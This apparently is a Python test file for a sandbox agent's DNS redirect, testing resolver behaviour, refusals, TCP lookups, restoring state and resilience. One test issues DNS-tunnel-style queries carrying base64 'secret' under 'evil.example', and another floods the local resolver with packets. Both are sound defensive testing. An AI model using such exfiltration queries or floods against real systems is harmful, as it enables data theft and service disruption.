"""DNS as programs see it: the C library's resolver and messages made by hand, in a namespace with the real redirect,
and a host that the tests play. What needs no real program is tested in C: agent/test/unit_dns_server.c."""

from __future__ import annotations

import errno
import os
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from agent_helpers import SANITIZED, anonymous_kib, can

from agentclient import AGENT, AgentClient, Asked, Stream, encode, frame
from sloplet.wire.schema import VERSION, ExecFlag, Feature, FrameType, HelloFlag, Op, Tag

pytestmark = pytest.mark.anyone

NETWORK = ["unshare", "-Urmn"]
#: An /etc of its own: nothing there knows any name, and the server that it tells of is nobody's.
SETUP = """
mount -t tmpfs t /etc && echo 'root:x:0:0:r:/:/bin/sh' > /etc/passwd && echo 'hosts: files dns' > /etc/nsswitch.conf &&
: > /etc/hosts && printf 'nameserver 192.0.2.53\\noptions timeout:20 attempts:2\\n' > /etc/resolv.conf &&
exec "$0" agent egress
"""

#: What programs inside are made of.
PROGRAM = """
import socket, struct, sys
def say(*words): print(*words, flush=True)
def wait(): sys.stdin.readline()
def look(name, family=0):
    try: return " ".join(sorted({a[4][0] for a in socket.getaddrinfo(name, 443, family, socket.SOCK_STREAM)}))
    except socket.gaierror as e: return {v: k for k, v in vars(socket).items() if k.startswith("EAI_")}[e.errno]
def question(name, kind=1, number=7, klass=1):
    labels = b"".join(bytes([len(l)]) + l for l in name.encode().split(b".")) if name else b""
    return struct.pack(">HHHHHH", number, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, klass)
def server(address="192.0.2.53"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(30); s.connect((address, 53)); return s
def ask(*what, **how):
    s = server(); s.send(question(*what, **how)); return s.recv(4096)
def code(answer): return answer[3] & 15, answer[7]
"""


@pytest.fixture
def box(tmp_path: Path) -> Iterator[AgentClient]:
    if not can(NETWORK):
        pytest.skip("no user namespaces here")
    client = AgentClient(
        [*NETWORK, "/bin/sh", "-c", SETUP, str(AGENT)],
        _hello(tmp_path),
        env={**os.environ, "ASAN_OPTIONS": "detect_leaks=0"},
    )
    assert client.hello
    assert client.hello[Tag.FEATURES] & Feature.EGRESS
    yield client
    client.close()
    assert client.process.returncode == 0


def _hello(work: Path) -> list[tuple[Tag, int | bytes | str]]:
    flags = HelloFlag.NO_USERS | HelloFlag.EGRESS
    return [(Tag.USER, "root"), (Tag.WORKDIR, str(work)), (Tag.HOME, str(work)), (Tag.FLAGS, flags)]


def _program(box: AgentClient, text: str, **env: str) -> Stream:
    flags = ExecFlag.STDIN | ExecFlag.MERGE
    return box.spawn(
        ["/usr/bin/env", "python3", "-c", PROGRAM + text], flags=flags, env=[f"{k}={v}" for k, v in env.items()]
    )


def _said(box: AgentClient, text: str, **env: str) -> list[str]:
    """All that a program says until its end."""
    program = box.wait(_program(box, text, **env))
    assert program.closed[Tag.EXIT_CODE] == 0, program.out.decode()
    return program.out.decode().splitlines()


def _host(box: AgentClient, **known: int) -> Callable[[Asked], None]:
    """A host that answers each name by the errno given for its first part; 0 if none is."""

    def answer(stream: Asked) -> None:
        assert stream.op == Op.RESOLVE
        error = known.get(stream.request[Tag.NAME].decode().split(".")[0], 0)
        box.finish(stream, *([(Tag.ERRNO, error), (Tag.MESSAGE, "so it is")] if error else []))

    box.on_asked = answer
    return answer


def _names(box: AgentClient) -> list[str]:
    return [stream.request[Tag.NAME].decode() for stream in box.asked]


def test_a_name_has_an_address_of_its_own(box: AgentClient) -> None:
    _host(box)
    said = _said(box, "for name in ('a.example', 'b.example', 'A.exAMPle', 'db', 'a.example.'): say(look(name))")
    assert said == ["198.18.0.1", "198.18.0.2", "198.18.0.1", "198.18.0.3", "198.18.0.1"]
    assert _names(box) == ["a.example", "b.example", "db"]  # A and AAAA of one name are one question


def test_getent(box: AgentClient) -> None:
    _host(box, none=errno.ENOENT)
    assert box.output(["/usr/bin/env", "getent", "ahosts", "a.example"]).split()[0] == "198.18.0.1"
    assert box.output(["/usr/bin/env", "getent", "hosts", "198.18.0.1"]).split() == ["198.18.0.1", "a.example"]
    assert box.run(["/usr/bin/env", "getent", "ahosts", "none.example"]).closed[Tag.EXIT_CODE] == 2


def test_what_the_c_library_makes_of_refusals(box: AgentClient) -> None:
    _host(box, none=errno.ENOENT, later=errno.EAGAIN, denied=errno.EACCES)
    said = _said(box, "for name in ('none.example', 'later.example', 'denied.example', 'a.example'): say(look(name))")
    assert said == ["EAI_NONAME", "EAI_AGAIN", "EAI_AGAIN", "198.18.0.1"]


def test_what_the_host_is_never_asked(box: AgentClient) -> None:
    text = """
for name in ("localhost", "a.localhost"): say(look(name, socket.AF_INET), look(name, socket.AF_INET6))
for name in ("1.2.3.4.", "0x7f.1.", "10.", "sp ace.example", "a*b.example"): say(look(name))
for kind in (2, 5, 6, 10, 15, 16, 33, 255): say(*code(ask("c2VjcmV0.evil.example", kind)))
say(*code(ask("c2VjcmV0.evil.example", klass=3)))
try: say(socket.gethostbyaddr("8.8.8.8"))
except socket.herror as e: say("herror")
"""
    said = _said(box, text)
    assert said[:2] == ["127.0.0.1 ::1"] * 2
    assert said[2:7] == ["EAI_NONAME"] * 5
    assert said[7:15] == ["0 0"] * 8
    assert said[15:] == ["5 0", "herror"]
    assert box.asked == []
    _host(box)  # and one that is asked, to be sure that it would have been seen
    assert _said(box, "say(look('a.example'))") == ["198.18.0.1"]
    assert _names(box) == ["a.example"]


def test_any_server_may_be_asked_and_answers_itself(box: AgentClient) -> None:
    _host(box)
    text = """
for address in ("8.8.8.8", "127.0.0.1", "127.0.0.53", "198.18.7.7", "10.0.0.1"):
    s = server(address); s.send(question("MiXed.Example")); got, who = s.recvfrom(4096)
    say(who, got[12:27], socket.inet_ntoa(got[-4:]))
"""
    assert _said(box, text) == [
        f"('{address}', 53) b'\\x05MiXed\\x07Example\\x00' 198.18.0.1"
        for address in ("8.8.8.8", "127.0.0.1", "127.0.0.53", "198.18.7.7", "10.0.0.1")
    ]


@pytest.mark.parametrize("address", ["192.0.2.53", "127.0.0.1"])
def test_tcp(box: AgentClient, address: str) -> None:
    """The first comes by the redirect, the second to the server's own port."""
    _host(box, none=errno.ENOENT)
    text = (
        f"open('/etc/resolv.conf', 'w').write('nameserver {address}\\n')\nsay(look('a.example'), look('none.example'))"
    )
    assert _said(box, text, RES_OPTIONS="use-vc") == ["198.18.0.1 EAI_NONAME"]


def test_a_connection_is_told_by_its_name(box: AgentClient) -> None:
    connects: list[Asked] = []

    def answer(stream: Asked) -> None:
        if stream.op == Op.CONNECT:
            connects.append(stream)
            box.finish(stream, (Tag.ERRNO, errno.ECONNREFUSED))
        else:
            box.finish(stream)

    box.on_asked = answer
    text = """
look("first.example")
for where in (("db.example", 5432), ("198.18.0.9", 80)):
    try: s = socket.create_connection(where); s.recv(1)
    except OSError: pass
"""
    _said(box, text)
    told = [(c.request[Tag.ADDRESS], c.request[Tag.NAME], c.request[Tag.PORT]) for c in connects]
    assert told == [(b"198.18.0.2", b"db.example", 5432), (b"198.18.0.9", None, 80)]


def test_a_lookup_goes_on_in_a_restored_copy(box: AgentClient, tmp_path: Path) -> None:
    _host(box)
    program = _program(box, "say(look('a.example')); wait(); say(look('b.example')); say(look('a.example')); wait()")
    number = box.started(program)
    box.until(lambda: b"198.18.0.1" in program.out)
    box.on_asked = None
    box.data(program, b"\n")
    box.until(lambda: _names(box) == ["a.example", "b.example"])
    box.hello = None
    box.streams.clear()
    box.asked.clear()
    box.next = 1
    box.send(frame(FrameType.HELLO, 0, encode([(Tag.VERSION, VERSION), *_hello(tmp_path)])))
    again = box.open(Op.ATTACH, (Tag.PID, number), (Tag.FLAGS, 0))
    box.until(lambda: _names(box) == ["b.example"])  # asked again, and its number starts again
    assert box.asked[0].number == 2
    _host(box)(box.asked[0])
    box.until(lambda: b"198.18.0.2\n198.18.0.1\n" in again.out)
    assert _names(box) == ["b.example", "a.example"]  # what the old host said of a.example counts no more


def test_an_answer_that_comes_while_frozen(box: AgentClient) -> None:
    program = _program(box, "say(look('a.example'))")
    box.until(lambda: _names(box) == ["a.example"])
    box.call(Op.FREEZE)
    box.finish(box.asked[0])
    assert not box.receive(0.1)
    box.call(Op.THAW)
    assert box.wait(program).out == b"198.18.0.1\n"


def test_a_flood_hurts_nobody(box: AgentClient) -> None:
    _host(box)
    assert _said(box, "say(look('a.example'))") == ["198.18.0.1"]
    box.on_asked = None  # the host is slow: what it is asked now stays open
    text = """
import random
r, s, sent = random.Random(4), server(), 0
s.setblocking(False)
for i in range(30000):
    data = question(f"n{i}.example", r.choice((1, 28, 65, 16)), i & 0xffff) if i % 3 else r.randbytes(r.randrange(600))
    try: s.send(data); sent += 1
    except OSError: pass
many = []
for i in range(100):
    t = socket.socket(); t.setblocking(False); t.connect_ex(("127.0.0.1", 53)); many.append(t)
say(sent); wait()
"""
    before = anonymous_kib(box.process.pid)
    flood = _program(box, text)
    while b"\n" not in flood.out:
        box.ping()  # the wire is served meanwhile
        assert flood.close is None, flood.out.decode()
    assert int(flood.out) > 10000
    box.ping()
    waiting = [stream for stream in box.asked if not stream.finished and not stream.was_reset]
    assert 50 < len(waiting) <= 256
    if not SANITIZED:
        assert anonymous_kib(box.process.pid) - before < 1500
    assert _said(box, "say(look('a.example'), look('localhost', socket.AF_INET))") == ["198.18.0.1 127.0.0.1"]
    for stream in box.asked:
        if not stream.finished:
            box.finish(stream, (Tag.ERRNO, errno.ENOENT))
    _host(box)
    assert _said(box, "say(look('after.example'))") == ["198.18.0.2"]
